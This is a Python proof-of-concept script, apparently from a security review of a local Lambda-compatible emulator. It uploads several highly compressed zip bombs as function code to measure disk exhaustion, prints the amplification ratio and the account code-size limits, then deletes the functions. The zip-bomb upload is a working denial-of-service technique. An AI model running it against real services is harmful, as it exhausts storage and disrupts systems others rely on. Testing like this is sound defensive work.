"""Disk exhaustion through deployment packages (issue 9, item 7).

    usage: python3 packages.py HOST:PORT DATA_DIR [N]

Creates N functions (default 8), each from a different ~240 KB zip of zeros
that unpacks to 250,000,000 bytes, with the development key (test/test), and
waits for their deployments to end. Prints how many were accepted and refused
(with the error), the bytes uploaded, the bytes the code store under DATA_DIR
takes on disk (allocated blocks, as du counts them), the ratio of the two,
and GetAccountSettings' AccountUsage.TotalCodeSize and AccountLimit.TotalCodeSize.
The functions are deleted at the end.
"""
import datetime
import hashlib
import hmac
import io
import json
import os
import sys
import time
import urllib.error
import urllib.request
import zipfile

KEY, SECRET, REGION = "test", "test", "us-east-1"
UNPACKED = 250_000_000


def sign(method, url, host, path, body):
    """SigV4-signs a Lambda API request; returns its headers."""
    now = datetime.datetime.now(datetime.timezone.utc)
    amz_date, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    payload = hashlib.sha256(body).hexdigest()
    headers = {"host": host, "x-amz-date": amz_date, "x-amz-content-sha256": payload}
    signed = ";".join(sorted(headers))
    canonical = "\n".join([method, path, "", "".join("%s:%s\n" % (k, headers[k]) for k in sorted(headers)), signed, payload])
    scope = "%s/%s/lambda/aws4_request" % (day, REGION)
    to_sign = "\n".join(["AWS4-HMAC-SHA256", amz_date, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    k = ("AWS4" + SECRET).encode()
    for part in (day, REGION, "lambda", "aws4_request"):
        k = hmac.new(k, part.encode(), hashlib.sha256).digest()
    sig = hmac.new(k, to_sign.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = "AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=%s, Signature=%s" % (KEY, scope, signed, sig)
    headers["content-type"] = "application/json"
    return headers


def call(addr, method, path, doc=None):
    body = json.dumps(doc).encode() if doc is not None else b""
    url = "http://%s%s" % (addr, path)
    req = urllib.request.Request(url, data=body if doc is not None else None, method=method,
                                 headers=sign(method, url, addr, path, body))
    try:
        with urllib.request.urlopen(req, timeout=300) as r:
            return r.status, json.loads(r.read() or b"{}")
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


def zeros_zip(name):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open(name, "w", force_zip64=False) as f:
            chunk = bytes(1 << 20)
            left = UNPACKED
            while left:
                n = min(left, len(chunk))
                f.write(chunk[:n])
                left -= n
    return buf.getvalue()


def disk_bytes(root):
    total = 0
    for d, dirs, files in os.walk(root):
        for n in dirs + files:
            total += os.lstat(os.path.join(d, n)).st_blocks * 512
    return total


def main(addr, data_dir, n):
    import base64
    code = os.path.join(data_dir, "code")
    before = disk_bytes(code)
    uploaded, accepted, refused = 0, [], []
    for i in range(n):
        z = zeros_zip("zeros-%d" % i)
        uploaded += len(z)
        name = "zeros-%d" % i
        status, doc = call(addr, "POST", "/2015-03-31/functions", {
            "FunctionName": name, "Runtime": "provided.al2023", "Handler": "x",
            "Role": "arn:aws:iam::000000000000:role/x", "Code": {"ZipFile": base64.b64encode(z).decode()}})
        if status == 201:
            accepted.append(name)
        else:
            refused.append("%d %s" % (status, doc.get("message") or doc.get("Message")))
    for name in accepted:
        for _ in range(600):
            status, doc = call(addr, "GET", "/2015-03-31/functions/%s/configuration" % name)
            if doc.get("State") != "Pending":
                break
            time.sleep(0.5)
    on_disk = disk_bytes(code) - before
    _, settings = call(addr, "GET", "/2016-08-19/account-settings")
    print("zips uploaded: %d, %d bytes in all (%d each on average)" % (n, uploaded, uploaded // n))
    print("accepted: %d; refused: %d %s" % (len(accepted), len(refused), sorted(set(refused))))
    print("code store on disk: %d bytes (%.2f GB)" % (on_disk, on_disk / 1e9))
    print("bytes on disk per byte uploaded: %.0f" % (on_disk / uploaded))
    print("GetAccountSettings: AccountUsage.TotalCodeSize %s, AccountLimit.TotalCodeSize %s" % (
        settings.get("AccountUsage", {}).get("TotalCodeSize"), settings.get("AccountLimit", {}).get("TotalCodeSize")))
    for name in accepted:
        call(addr, "DELETE", "/2015-03-31/functions/%s" % name)


if __name__ == "__main__":
    if len(sys.argv) not in (3, 4):
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) == 4 else 8)
